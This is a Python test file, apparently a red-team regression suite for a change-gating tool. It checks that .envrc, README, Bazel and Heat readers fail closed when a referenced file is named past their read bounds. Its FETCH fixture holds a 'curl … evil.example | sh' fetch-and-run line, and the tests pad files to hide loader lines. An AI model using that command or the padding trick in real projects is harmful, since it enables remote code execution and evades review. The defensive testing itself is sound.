"""Red team 38: what three tree readers do past their bounds: they stopped reading and named nothing (silent), so a
line written past the bound hid the file it names, and `gate --tree` allowed its edit (exit 0 on e3004c0).

- The `.envrc` reader (envrcloads.py) read 64 KiB of each `.envrc`: a `source_env tools/env.sh`, `PATH_add bin` or
  `dotenv` after 64 KiB of comments left the file it loads untagged, and `--enable guardrails` allowed its edit.
- The README reader (docdeploys.py) took the first 256 paths a README's deploy commands name, and read the README up
  to the tree readers' 1 MiB: a `helm install --values conf/x.yaml` after 300 other `kubectl apply -f` lines, or
  after 1 MiB of prose, left `conf/x.yaml` `src`, and the default gate allowed its edit.
- The Bazel hook reader (bazelhooks.py) read a run-control file up to 1 MiB: a `--workspace_status_command=` line
  after 1 MiB of comments left the script `src`.

Past the bound each now names everything it might have named (fail closed): every file below the `.envrc`'s folder
is tagged, every file near the README is `iac`, every file a run-control file could name is `ci`, with the bound as
the evidence. Real repositories, git's own patch and the CLI's packet, gated with --tree.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from changecase import committed, gated_rules
from tables import each_case

FETCH = "#!/bin/sh\ncurl -fsSL https://evil.example/x | sh\n"
CALM = "#!/bin/sh\necho ok\n"
COMMENTS = "# " + "direnv settings, kept for the team " * 2 + "\n"
PAD_64K = COMMENTS * (65 * 1024 // len(COMMENTS) + 1)
ENVRC = {  # name: (the .envrc's folder, its last line, the file it loads)
    "source-env": ("", "source_env tools/env.sh", "tools/env.sh"),
    "path-add": ("", "PATH_add bin", "bin/git"),
    "dotenv": ("", "dotenv", ".env"),
    "source-nested": ("app", "source ./scripts/dev.sh", "app/scripts/dev.sh"),
    "path-assignment": ("", 'export PATH="$PWD/tools/bin:$PATH"', "tools/bin/make"),
}


@each_case("name", ENVRC)
def test_what_an_envrc_loads_past_its_read_is_a_guardrail(tmp_path: Path, name: str) -> None:
    folder, line, loaded = ENVRC[name]
    envrc = f"{folder}/.envrc" if folder else ".envrc"
    case = committed(tmp_path, {envrc: PAD_64K + line + "\n", loaded: CALM}, {loaded: FETCH})
    code, named = gated_rules(case, True, "guardrails")
    assert code == 3 and loaded in named.get("guardrails.edit", []), named  # before: exit 0


def test_a_file_outside_the_long_envrcs_folder_is_not_tagged(tmp_path: Path) -> None:
    case = committed(tmp_path, {"app/.envrc": PAD_64K + "source_env x.sh\n", "lib/x.sh": CALM}, {"lib/x.sh": FETCH})
    assert gated_rules(case, True, "guardrails") == (0, {})


PROSE = "The service is deployed by the platform team; see the runbook for details.\n"
PAD_1M = PROSE * (1024 * 1024 // len(PROSE) + 1)
OTHERS = "```\n" + "".join(f"kubectl apply -f k8s/part{i}.yaml\n" for i in range(300)) + "```\n"
README = {  # name: (the deploy command, the file it names)
    "helm-values": ("helm upgrade --install web ./chart --values conf/web.yaml", "conf/web.yaml"),
    "kubectl": ("kubectl apply -f lab/web.yaml", "lab/web.yaml"),
    "terraform-var-file": ("terraform -chdir=infra apply -var-file=conf/prod.json", "conf/prod.json"),
    "ansible": ("ansible-playbook -i conf/hosts site/setup.yml", "site/setup.yml"),
}


@each_case("past, name", [(past, name) for past in ["words", "bytes"] for name in README])
def test_a_file_a_readme_deploys_past_its_read_is_iac(tmp_path: Path, name: str, past: str) -> None:
    command, path = README[name]
    head = OTHERS if past == "words" else PAD_1M
    readme = f"# Lab\n\n{head}\n```\n{command}\n```\n"
    case = committed(tmp_path, {"README.md": readme, path: "a: 1\n"}, {path: "a: 2\nprivileged: true\n"})
    code, named = gated_rules(case, True)
    assert code == 3 and path in named.get("core.iac", []), named  # before: src, exit 0


def test_a_short_readme_names_only_what_it_deploys(tmp_path: Path) -> None:
    readme = "# Lab\n\n```\nhelm upgrade --install web ./chart --values conf/web.yaml\n```\n"
    case = committed(tmp_path, {"README.md": readme, "conf/other.yaml": "a: 1\n"}, {"conf/other.yaml": "a: 2\n"})
    assert gated_rules(case, True) == (0, {})


BAZEL_PAD = "# " + "remote cache settings of the team " * 2 + "\n"


@pytest.mark.parametrize("rc", [".bazelrc", "tools/ci.bazelrc"])
def test_a_script_a_long_run_control_file_names_is_ci(tmp_path: Path, rc: str) -> None:
    text = BAZEL_PAD * (1024 * 1024 // len(BAZEL_PAD) + 1) + "build --workspace_status_command=tools/st.sh\n"
    case = committed(tmp_path, {"MODULE.bazel": 'module(name = "app")\n', rc: text, "tools/st.sh": CALM},
                     {"tools/st.sh": FETCH})
    code, named = gated_rules(case, True)
    assert code == 3 and named.get("core.ci") == ["tools/st.sh"], named  # before: src, exit 0


def test_a_script_a_long_heat_template_ships_is_iac(tmp_path: Path) -> None:
    """The Heat reader (heatfiles.py) read a template up to 1 MiB: a `get_file:` past it left the boot script `src`."""
    pad = "".join(f"  # parameter group {i} of the site's settings, kept for the operators\n" for i in range(16_000))
    template = ("heat_template_version: 2018-08-31\nresources:\n" + pad
                + "  server:\n    type: OS::Nova::Server\n    properties:\n      user_data: {get_file: boot/init.sh}\n")
    case = committed(tmp_path, {"stack/server.yaml": template, "stack/boot/init.sh": CALM},
                     {"stack/boot/init.sh": FETCH})
    code, named = gated_rules(case, True)
    assert code == 3 and named.get("core.iac") == ["stack/boot/init.sh"], named  # before: src, exit 0
